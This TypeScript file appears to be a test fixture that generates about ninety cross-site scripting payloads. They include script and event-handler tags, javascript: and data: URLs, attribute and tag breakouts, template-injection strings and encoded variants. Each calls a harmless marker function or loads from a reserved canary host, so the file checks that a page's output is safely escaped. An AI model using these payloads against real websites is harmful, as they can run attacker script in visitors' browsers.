/*
 * Texts that try to become code or markup wherever they are shown. Each calls `__xss(its number)` when it runs, or asks
 * the host xss-canary.invalid for something, and leaves an element or attribute behind that no page of ours has
 * (`data-xss`, `xss-tag`) when it is taken for markup.
 */
type Text = (run: string, host: string) => string;

const ELEMENTS: readonly Text[] = [
  (run) => `<script data-xss>${run}</script>`,
  (run) => `<ScRiPt data-xss>${run}</sCrIpT >`,
  (_, host) => `<script data-xss src=//${host}/a.js></script>`,
  (_, host) => `<script data-xss type=module>import "//${host}/b.js"</script>`,
  (run) => `<img data-xss src=x onerror=${run}>`,
  (run) => `<img data-xss src=x onerror="${run}" />`,
  (run) => `<img/data-xss/src=x/onerror=${run}//`,
  (_, host) => `<img data-xss src="//${host}/c.png">`,
  (_, host) => `<img data-xss srcset="//${host}/d.png 1x">`,
  (run) => `<svg data-xss onload=${run}>`,
  (run) => `<svg data-xss><script>${run}</script></svg>`,
  (run) => `<svg data-xss><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  (_, host) => `<svg data-xss><image href="//${host}/e.svg"/></svg>`,
  (_, host) => `<svg data-xss><use href="//${host}/f.svg#x"/></svg>`,
  (run) => `<math data-xss><mtext><img src=x onerror=${run}></mtext></math>`,
  (run) => `<body data-xss onload=${run}>`,
  (run) => `<iframe data-xss srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<iframe data-xss src="javascript:parent.${run}"></iframe>`,
  (_, host) => `<iframe data-xss src="//${host}/g"></iframe>`,
  (run) => `<object data-xss data="javascript:${run}"></object>`,
  (_, host) => `<embed data-xss src="//${host}/h">`,
  (run) => `<video data-xss><source onerror=${run}></video>`,
  (run) => `<audio data-xss src=x onerror=${run}></audio>`,
  (run) => `<input data-xss autofocus onfocus=${run}>`,
  (run) => `<textarea data-xss autofocus onfocus=${run}></textarea>`,
  (run) => `<select data-xss autofocus onfocus=${run}></select>`,
  (run) => `<details data-xss open ontoggle=${run}>x</details>`,
  (run) => `<marquee data-xss onstart=${run}>x</marquee>`,
  (run) => `<button data-xss popovertarget=x onclick=${run}>x</button>`,
  (run) => `<xss-tag onfocus=${run} tabindex=1 autofocus>x</xss-tag>`,
  (run) => `<style data-xss>@keyframes x{}</style><xss-tag style="animation:x" onanimationstart=${run}>`,
  (_, host) => `<style data-xss>@import "//${host}/i.css";</style>`,
  (_, host) => `<link data-xss rel=stylesheet href="//${host}/j.css">`,
  (_, host) => `<link data-xss rel=prefetch href="//${host}/k">`,
  (_, host) => `<base data-xss href="//${host}/">`,
  (_, host) => `<meta data-xss http-equiv=refresh content="0;url=//${host}/l">`,
  (_, host) => `<form data-xss action="//${host}/m"><button autofocus>x</button></form>`,
  (run) => `<a data-xss href="javascript:${run}">x</a>`,
  (run) => `<a data-xss href="java&#9;script:${run}">x</a>`,
  (run) => `<template data-xss shadowrootmode=open><img src=x onerror=${run}></template>`,
];

const CLOSERS: readonly string[] = [
  ...[
    '">',
    "'>",
    '`>',
    '-->',
    ']]>',
    '*/',
    '</title>',
    '</textarea>',
    '</style>',
    '</script>',
    '</td></tr></table>',
  ],
  ...['</noscript>', '</option></select>', '</svg>', '<!--', '<![CDATA[', '\u2028', '\u0001', '&lt;', '\\'],
];

const OTHERS: readonly Text[] = [
  ...CLOSERS.map(
    (closer): Text =>
      (run) =>
        `${closer}<img data-xss src=x onerror=${run}>`,
  ),
  (run) => `" onmouseover="${run}" data-xss="`,
  (run) => `' autofocus onfocus='${run}' data-xss='`,
  (run) => `x onerror=${run} data-xss`,
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => ` \u0001javascript:${run}`,
  (run) => `java\tscript:${run}`,
  (run) => `data:text/html,<script data-xss>parent.${run}</script>`,
  (run) => `data:image/svg+xml,<svg data-xss onload="${run}" xmlns="http://www.w3.org/2000/svg"/>`,
  (run) => `vbscript:${run}`,
  (_, host) => `//${host}/n`,
  (run) => `[x](javascript:${run})`,
  (_, host) => `![x](https://${host}/o.png)`,
  (run) => `"};${run};//`,
  (run) => `'-${run}-'`,
  (run) => `\${${run}}`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `"><script data-xss>${run}</script>`,
  (run) => `\\u003cscript data-xss\\u003e${run}\\u003c/script\\u003e`,
  (run) => `%3Cscript data-xss%3E${run}%3C/script%3E`,
  (run) => `＜script data-xss＞${run}＜/script＞`,
  (_, host) => `x;background:url(//${host}/p);`,
  (run) => `</script><script data-xss>${run}</script>`,
  (run) => `{"__html":"<img data-xss src=x onerror=${run}>"}`,
  (run) => `{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"${run}"}}`,
];

export const CANARY_HOST = 'xss-canary.invalid';
export const HOSTILE_TEXTS: readonly string[] = [...ELEMENTS, ...OTHERS].map((text, number) =>
  text(`__xss(${number + 1})`, CANARY_HOST),
);

/** One that fits into so many characters and has no comma or control character, as a tag. */
export const shortText = (number: number): string => `<b data-xss onclick=__xss(${number})>`;
